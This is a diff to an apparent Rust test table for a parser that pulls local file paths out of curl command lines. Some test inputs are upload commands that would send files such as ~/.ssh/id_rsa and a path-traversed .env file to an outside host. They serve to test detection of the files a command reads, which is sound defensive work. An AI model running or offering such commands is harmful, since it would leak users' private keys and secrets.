@@ -572,12 +572,19 @@ pub(super) static PROGRAMS: &[Program] = &[
             // A list of files, and a file of headers.
             ex(
                 "curl -F 'x=@a.txt,~/.ssh/id_rsa' https://x.org",
-                &["a.txt,~/.ssh/id_rsa", "a.txt", "~/.ssh/id_rsa"],
+                &["a.txt", "~/.ssh/id_rsa"],
             ),
             ex(
-                "curl -F 'f=@a;headers=@h.txt' https://x.org",
+                "curl -F 'f=@a;headers=@ h.txt' https://x.org",
                 &["a", "h.txt"],
             ),
+            ex(
+                "curl -F 'x=@a;type=text/plain, b' https://x.org",
+                &["a", "b"],
+            ),
+            ex("curl -F 'x=@\"a,b\",c' https://x.org", &["a,b", "c"]),
+            // `-d @FILE` takes the rest of the word as the file's name.
+            ex("curl -d '@x;/../.env' https://x.org", &["x;/../.env"]),
             ex("curl -T f https://x.org", &["f"]),
             ex("curl -K cfg https://x.org", &["cfg"]),
             ex("curl --output-dir d -o f https://x.org", &["d", "f"]),
